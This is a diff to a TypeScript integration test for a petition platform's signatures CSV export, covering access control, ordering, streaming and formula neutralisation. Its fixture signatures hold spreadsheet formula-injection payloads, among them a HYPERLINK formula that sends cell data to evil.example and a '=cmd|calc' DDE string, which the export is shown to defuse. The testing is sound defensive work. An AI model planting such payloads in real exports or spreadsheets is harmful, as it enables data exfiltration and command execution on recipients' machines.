@@ -11,23 +11,28 @@ import { startTestApp, TestApp } from './support/test-app';
 
 const HEADER = 'signed_at,full_name,email,postcode,country,comment,display_publicly,contact_consent,consent_wording_id,consented_at,source';
 
+/** The people, keys and petitions of this spec, built once in beforeAll. */
+interface ExportWorld {
+  admin: TestUser;
+  organiser: TestUser;
+  otherOrganiser: TestUser;
+  member: TestUser;
+  outsider: TestUser;
+  organisationId: string;
+  chapterId: string;
+  signaturesKey: string;
+  petitionsKey: string;
+  foreignSignaturesKey: string;
+  petition: { id: string; slug: string };
+  draft: { id: string };
+  hidden: { id: string };
+  wordingId: string;
+}
+
 describe('signatures CSV export', () => {
   let t: TestApp;
   let db: DataSource;
-  let admin: TestUser;
-  let organiser: TestUser;
-  let otherOrganiser: TestUser;
-  let member: TestUser;
-  let outsider: TestUser;
-  let organisationId: string;
-  let chapterId: string;
-  let signaturesKey: string;
-  let petitionsKey: string;
-  let foreignSignaturesKey: string;
-  let petition: { id: string; slug: string };
-  let draft: { id: string };
-  let hidden: { id: string };
-  let wordingId: string;
+  const w = {} as ExportWorld;
 
   const path = (id: string) => `/exports/petitions/${id}/signatures.csv`;
   const get = (id: string, token?: string, init: RequestInit = {}) =>
@@ -36,7 +41,7 @@ describe('signatures CSV export', () => {
   async function createPetition(token: string, input: Record<string, unknown>, open = true): Promise<{ id: string; slug: string }> {
     const res = await t.gql(
       `mutation($input: CreatePetitionInput!) { createPetition(input: $input) { id slug } }`,
-      { input: { organisationId, chapterId, title: 'Petition', target: 'The Minister', body: 'Please act.', ...input } },
+      { input: { organisationId: w.organisationId, chapterId: w.chapterId, title: 'Petition', target: 'The Minister', body: 'Please act.', ...input } },
       token,
     );
     expect(res.errors).toBeUndefined();
@@ -60,27 +65,27 @@ describe('signatures CSV export', () => {
   beforeAll(async () => {
     t = await startTestApp();
     db = t.app.get(DataSource);
-    [admin, organiser, otherOrganiser, member, outsider] = await Promise.all(
+    [w.admin, w.organiser, w.otherOrganiser, w.member, w.outsider] = await Promise.all(
       ['Ada Admin', 'Olga Organiser', 'Omar Organiser', 'Mia Member', 'Otto Outsider'].map((name) => registerUser(t, name)),
     );
-    organisationId = (await createOrganisation(t, admin)).id;
-    chapterId = (await createChapter(t, admin, organisationId, { name: 'London' })).id;
-    const otherChapterId = (await createChapter(t, admin, organisationId, { name: 'Manchester' })).id;
-    await makeOrganiser(t, admin, organiser, chapterId);
-    await makeOrganiser(t, admin, otherOrganiser, otherChapterId);
-    await joinChapter(t, member, chapterId);
-    signaturesKey = (await createApiKey(t, admin, organisationId, ['SIGNATURES_READ'])).secret;
-    petitionsKey = (await createApiKey(t, admin, organisationId, ['PETITIONS_READ', 'SIGNATURES_WRITE'])).secret;
-    const foreignOrg = await createOrganisation(t, outsider);
-    foreignSignaturesKey = (await createApiKey(t, outsider, foreignOrg.id, ['SIGNATURES_READ'])).secret;
-    wordingId = (await db.query(`SELECT id FROM consent_wordings WHERE organisation_id IS NULL`))[0].id;
+    w.organisationId = (await createOrganisation(t, w.admin)).id;
+    w.chapterId = (await createChapter(t, w.admin, w.organisationId, { name: 'London' })).id;
+    const otherChapterId = (await createChapter(t, w.admin, w.organisationId, { name: 'Manchester' })).id;
+    await makeOrganiser(t, w.admin, w.organiser, w.chapterId);
+    await makeOrganiser(t, w.admin, w.otherOrganiser, otherChapterId);
+    await joinChapter(t, w.member, w.chapterId);
+    w.signaturesKey = (await createApiKey(t, w.admin, w.organisationId, ['SIGNATURES_READ'])).secret;
+    w.petitionsKey = (await createApiKey(t, w.admin, w.organisationId, ['PETITIONS_READ', 'SIGNATURES_WRITE'])).secret;
+    const foreignOrg = await createOrganisation(t, w.outsider);
+    w.foreignSignaturesKey = (await createApiKey(t, w.outsider, foreignOrg.id, ['SIGNATURES_READ'])).secret;
+    w.wordingId = (await db.query(`SELECT id FROM consent_wordings WHERE organisation_id IS NULL`))[0].id;
 
-    petition = await createPetition(organiser.token, { title: 'Free the rivers', slug: 'free-the-rivers' });
-    draft = await createPetition(organiser.token, { title: 'Not yet' }, false);
-    hidden = await createPetition(organiser.token, { title: 'Chapter only', visibility: 'CHAPTER' });
+    w.petition = await createPetition(w.organiser.token, { title: 'Free the rivers', slug: 'free-the-rivers' });
+    w.draft = await createPetition(w.organiser.token, { title: 'Not yet' }, false);
+    w.hidden = await createPetition(w.organiser.token, { title: 'Chapter only', visibility: 'CHAPTER' });
 
     // Signed one after another through the API, then given fixed times (two of them tied, to show the id tiebreak).
-    await sign(petition.id, {
+    await sign(w.petition.id, {
       fullName: 'Ñandú José',
       email: ' NANDU@Example.org ',
       postcode: 'SW1A 1AA',
@@ -90,21 +95,21 @@ describe('signatures CSV export', () => {
       contactConsent: true,
       source: 'web',
     });
-    await sign(petition.id, {
+    await sign(w.petition.id, {
       fullName: 'Smith, Jane "JJ"',
       email: 'jane@example.org',
       postcode: '-1',
       comment: '=HYPERLINK("https://evil.example/?q="&A1,"click")',
       source: '+44 campaign',
     });
-    await sign(petition.id, { fullName: '@Ana Quispe', email: 'ana@example.org', comment: '\r\nstarts with a carriage return', source: '-utm' });
-    await sign(petition.id, { fullName: '=1+1', email: 'calc@example.org', comment: '-2+3', source: '@partner', contactConsent: true });
-    await sign(petition.id, { fullName: 'Plain Person', email: 'plain@example.org', comment: "a=b, c-d; it's fine", country: 'BO' });
+    await sign(w.petition.id, { fullName: '@Ana Quispe', email: 'ana@example.org', comment: '\r\nstarts with a carriage return', source: '-utm' });
+    await sign(w.petition.id, { fullName: '=1+1', email: 'calc@example.org', comment: '-2+3', source: '@partner', contactConsent: true });
+    await sign(w.petition.id, { fullName: 'Plain Person', email: 'plain@example.org', comment: "a=b, c-d; it's fine", country: 'BO' });
     // The API refuses tabs, but rows may come from elsewhere (imports): the export neutralises them too.
     await db.query(
       `INSERT INTO signatures (petition_id, full_name, email, comment, source, display_publicly, contact_consent, created_at)
        VALUES ($1, E'\\tTabbed Name', 'tab@example.org', E'\\tindented', E'\\rcr', false, false, '2026-03-01T10:00:05Z')`,
-      [petition.id],
+      [w.petition.id],
     );
     await signedAt('nandu@example.org', '2026-03-01T10:00:00.000Z');
     await signedAt('jane@example.org', '2026-03-01T10:00:01.000Z');
@@ -112,13 +117,13 @@ describe('signatures CSV export', () => {
     await signedAt('calc@example.org', '2026-03-01T10:00:02.500Z');
     await signedAt('plain@example.org', '2026-03-01T10:00:09.000Z');
     // Another petition's signer never shows up.
-    const other = await createPetition(organiser.token, { title: 'Another cause' });
+    const other = await createPetition(w.organiser.token, { title: 'Another cause' });
     await sign(other.id, { fullName: 'Someone Else', email: 'else@example.org' });
   });
   afterAll(() => t.close());
 
   it('streams every signer as UTF-8 CSV with a header, oldest first, ties by id, formulas neutralised', async () => {
-    const res = await get(petition.id, organiser.token);
+    const res = await get(w.petition.id, w.organiser.token);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(res.headers.get('content-disposition')).toBe('attachment; filename=free-the-rivers-signatures.csv');
@@ -136,12 +141,12 @@ describe('signatures CSV export', () => {
     );
     const tied: Record<string, string[]> = {
       'ana@example.org': ['2026-03-01T10:00:02.500Z', "'@Ana Quispe", 'ana@example.org', '', '', "'\r\nstarts with a carriage return", 'false', 'false', '', '', "'-utm"],
-      'calc@example.org': ['2026-03-01T10:00:02.500Z', "'=1+1", 'calc@example.org', '', '', "'-2+3", 'false', 'true', wordingId, '2026-03-01T10:00:02.500Z', "'@partner"],
+      'calc@example.org': ['2026-03-01T10:00:02.500Z', "'=1+1", 'calc@example.org', '', '', "'-2+3", 'false', 'true', w.wordingId, '2026-03-01T10:00:02.500Z', "'@partner"],
     };
     const rows = csvOf(text);
     expect(rows[0]).toEqual([...SIGNATURE_EXPORT_COLUMNS]);
     expect(rows.slice(1)).toEqual([
-      ['2026-03-01T10:00:00.000Z', 'Ñandú José', 'nandu@example.org', 'SW1A 1AA', 'GB', 'Línea uno\nLínea "dos", con coma', 'true', 'true', wordingId, '2026-03-01T10:00:00.000Z', 'web'],
+      ['2026-03-01T10:00:00.000Z', 'Ñandú José', 'nandu@example.org', 'SW1A 1AA', 'GB', 'Línea uno\nLínea "dos", con coma', 'true', 'true', w.wordingId, '2026-03-01T10:00:00.000Z', 'web'],
       ['2026-03-01T10:00:01.000Z', 'Smith, Jane "JJ"', 'jane@example.org', "'-1", '', '\'=HYPERLINK("https://evil.example/?q="&A1,"click")', 'false', 'false', '', '', "'+44 campaign"],
       tied[ana],
       tied[calc],
@@ -154,58 +159,58 @@ describe('signatures CSV export', () => {
   });
 
   it('is a header-only file for a petition nobody has signed yet', async () => {
-    const empty = await createPetition(organiser.token, { title: 'Quiet one', slug: 'quiet-one' });
-    const res = await get(empty.id, admin.token);
+    const empty = await createPetition(w.organiser.token, { title: 'Quiet one', slug: 'quiet-one' });
+    const res = await get(empty.id, w.admin.token);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-disposition')).toBe('attachment; filename=quiet-one-signatures.csv');
     expect(await res.text()).toBe(`${HEADER}\r\n`);
   });
 
   it("lets the chapter's organisers, the organisation's admins and SIGNATURES_READ keys export", async () => {
-    for (const token of [organiser.token, admin.token, signaturesKey]) {
-      const res = await get(petition.id, token);
+    for (const token of [w.organiser.token, w.admin.token, w.signaturesKey]) {
+      const res = await get(w.petition.id, token);
       expect(res.status).toBe(200);
       expect(csvOf(await res.text())).toHaveLength(7);
     }
     // An upper-case id is the same petition.
-    expect((await get(petition.id.toUpperCase(), signaturesKey)).status).toBe(200);
+    expect((await get(w.petition.id.toUpperCase(), w.signaturesKey)).status).toBe(200);
   });
 
   it('answers 403 to those who see the petition but may not read its signers', async () => {
     const cases: Array<[string, string | undefined]> = [
-      ['member', member.token],
+      ['member', w.member.token],
       ['anonymous', undefined],
-      ['signed-in outsider', outsider.token],
-      ["another chapter's organiser", otherOrganiser.token],
-      ['key without SIGNATURES_READ', petitionsKey],
-      ["another organisation's SIGNATURES_READ key", foreignSignaturesKey],
+      ['signed-in outsider', w.outsider.token],
+      ["another chapter's organiser", w.otherOrganiser.token],
+      ['key without SIGNATURES_READ', w.petitionsKey],
+      ["another organisation's SIGNATURES_READ key", w.foreignSignaturesKey],
     ];
     for (const [who, token] of cases) {
-      const res = await get(petition.id, token);
+      const res = await get(w.petition.id, token);
       expect({ who, status: res.status, type: res.headers.get('content-type') }).toEqual({ who, status: 403, type: expect.stringMatching(/^application\/json/) });
       expect(await res.text()).not.toContain('example.org');
     }
     // A CHAPTER petition is visible to its members: still 403 for them.
-    expect((await get(hidden.id, member.token)).status).toBe(403);
+    expect((await get(w.hidden.id, w.member.token)).status).toBe(403);
   });
 
   it('limits organisation-wide petitions to admins and SIGNATURES_READ keys', async () => {
-    const orgWide = await createPetition(admin.token, { chapterId: undefined, title: 'Everyone together' });
-    expect((await get(orgWide.id, admin.token)).status).toBe(200);
-    expect((await get(orgWide.id, signaturesKey)).status).toBe(200);
-    expect((await get(orgWide.id, organiser.token)).status).toBe(403);
+    const orgWide = await createPetition(w.admin.token, { chapterId: undefined, title: 'Everyone together' });
+    expect((await get(orgWide.id, w.admin.token)).status).toBe(200);
+    expect((await get(orgWide.id, w.signaturesKey)).status).toBe(200);
+    expect((await get(orgWide.id, w.organiser.token)).status).toBe(403);
   });
 
   it('answers the same 404 for unknown, malformed and invisible petitions', async () => {
     const answers = await Promise.all(
       [
-        get(draft.id), // DRAFT, anonymous
-        get(draft.id, member.token), // DRAFT, member
-        get(hidden.id), // CHAPTER visibility, anonymous
-        get(hidden.id, outsider.token), // CHAPTER visibility, outsider
-        get('00000000-0000-4000-8000-000000000000', admin.token),
-        get('not-an-id', admin.token),
-        get(`${petition.id}x`, admin.token),
+        get(w.draft.id), // DRAFT, anonymous
+        get(w.draft.id, w.member.token), // DRAFT, member
+        get(w.hidden.id), // CHAPTER visibility, anonymous
+        get(w.hidden.id, w.outsider.token), // CHAPTER visibility, outsider
+        get('00000000-0000-4000-8000-000000000000', w.admin.token),
+        get('not-an-id', w.admin.token),
+        get(`${w.petition.id}x`, w.admin.token),
       ].map(async (pending) => {
         const res = await pending;
         return { status: res.status, body: await res.text() };
@@ -214,12 +219,12 @@ describe('signatures CSV export', () => {
     expect(answers.map((a) => a.status)).toEqual([404, 404, 404, 404, 404, 404, 404]);
     expect(new Set(answers.map((a) => a.body)).size).toBe(1);
     // Its organisers do see the draft (with no signers yet).
-    expect((await get(draft.id, organiser.token)).status).toBe(200);
+    expect((await get(w.draft.id, w.organiser.token)).status).toBe(200);
   });
 
   it('answers 401 to bad credentials, never treating them as anonymous', async () => {
-    for (const token of ['mk_not-a-key', 'not.a.jwt', `${organiser.token}x`]) {
-      const res = await get(petition.id, token);
+    for (const token of ['mk_not-a-key', 'not.a.jwt', `${w.organiser.token}x`]) {
+      const res = await get(w.petition.id, token);
       expect(res.status).toBe(401);
       expect(await res.text()).not.toContain('example.org');
     }
@@ -230,7 +235,7 @@ describe('signatures CSV export', () => {
     let bulk: { id: string };
 
     beforeAll(async () => {
-      bulk = await createPetition(organiser.token, { title: 'Big one', slug: 'big-one' });
+      bulk = await createPetition(w.organiser.token, { title: 'Big one', slug: 'big-one' });
       await db.query(
         `INSERT INTO signatures (petition_id, full_name, email, comment, display_publicly, contact_consent, created_at)
          SELECT $1, 'Signer ' || lpad(i::text, 5, '0'), 'bulk-' || i || '@example.org', CASE WHEN i % 2 = 0 THEN '=cmd|calc' END,
@@ -241,7 +246,7 @@ describe('signatures CSV export', () => {
     });
 
     it('streams completely, in order, through a streaming parser', async () => {
-      const res = await get(bulk.id, signaturesKey);
+      const res = await get(bulk.id, w.signaturesKey);
       expect(res.status).toBe(200);
       expect(res.headers.get('content-length')).toBeNull();
       const parser = Readable.fromWeb(res.body as WebReadableStream).pipe(parse({ columns: true }));
@@ -288,7 +293,7 @@ describe('signatures CSV export', () => {
       pool().on('release', onRelease);
       for (let i = 0; i < poolSize + 2; i++) {
         const abort = new AbortController();
-        const res = await get(bulk.id, signaturesKey, { signal: abort.signal });
+        const res = await get(bulk.id, w.signaturesKey, { signal: abort.signal });
         expect(res.status).toBe(200);
         const reader = res.body!.getReader();
         expect((await reader.read()).done).toBe(false);
@@ -296,7 +301,7 @@ describe('signatures CSV export', () => {
         await expect(reader.read()).rejects.toThrow();
       }
       // A leaked client per abort would exhaust the pool and this would hang until the timeout.
-      const res = await get(bulk.id, signaturesKey, { signal: AbortSignal.timeout(20_000) });
+      const res = await get(bulk.id, w.signaturesKey, { signal: AbortSignal.timeout(20_000) });
       expect(res.status).toBe(200);
       expect(csvOf(await res.text())).toHaveLength(SIGNERS + 1);
       pool().off('release', onRelease);
